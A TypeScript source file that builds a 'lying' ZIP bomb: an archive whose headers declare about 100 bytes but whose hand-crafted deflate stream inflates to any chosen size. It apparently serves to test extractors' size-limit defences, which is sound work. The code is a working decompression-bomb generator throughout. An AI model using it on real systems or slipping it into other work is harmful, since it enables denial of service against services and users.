// A zip bomb whose header lies: one file that declares a few bytes but inflates to `inflatedBytes` of "a". Written
// bit by bit as one fixed-Huffman deflate block (a literal "a", then "repeat 258 bytes from 1 back" over and over),
// so building it never holds the inflated bytes, and it has no stored block that would stop an inflater early.

class BitWriter {
  private bytes: Uint8Array;
  private bit = 0;
  constructor(capacityBits: number) {
    this.bytes = new Uint8Array(Math.ceil(capacityBits / 8) + 1);
  }
  /** A Huffman code, most significant bit first (deflate packs codes that way into LSB-first bytes). */
  code(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) this.put((value >> i) & 1);
  }
  /** A header field, least significant bit first. */
  field(value: number, length: number): void {
    for (let i = 0; i < length; i++) this.put((value >> i) & 1);
  }
  finish(): Uint8Array {
    return this.bytes.subarray(0, Math.ceil(this.bit / 8));
  }
  private put(value: number): void {
    if (value) this.bytes[this.bit >> 3]! |= 1 << (this.bit & 7);
    this.bit++;
  }
}

function deflatedAs(inflatedBytes: number): Uint8Array {
  const matches = Math.ceil((inflatedBytes - 1) / 258);
  const writer = new BitWriter(3 + 8 + matches * 13 + 7);
  writer.field(1, 1); // final block
  writer.field(1, 2); // fixed Huffman codes
  writer.code(0x30 + 0x61, 8); // literal "a"
  for (let i = 0; i < matches; i++) {
    writer.code(0xc0 + (285 - 280), 8); // length 258
    writer.code(0, 5); // distance 1
  }
  writer.code(0, 7); // end of block
  return writer.finish();
}

export function lyingZipBomb(name: string, inflatedBytes: number, declaredBytes = 100): Uint8Array {
  const data = deflatedAs(inflatedBytes);
  const fileName = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(declaredBytes, 22); // the lie
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(declaredBytes, 24);
  central.writeUInt16LE(fileName.length, 28);
  const endRecord = Buffer.alloc(22);
  endRecord.writeUInt32LE(0x06054b50, 0);
  endRecord.writeUInt16LE(1, 8);
  endRecord.writeUInt16LE(1, 10);
  endRecord.writeUInt32LE(central.length + fileName.length, 12);
  endRecord.writeUInt32LE(local.length + fileName.length + data.length, 16);
  return new Uint8Array(Buffer.concat([local, fileName, data, central, fileName, endRecord]));
}
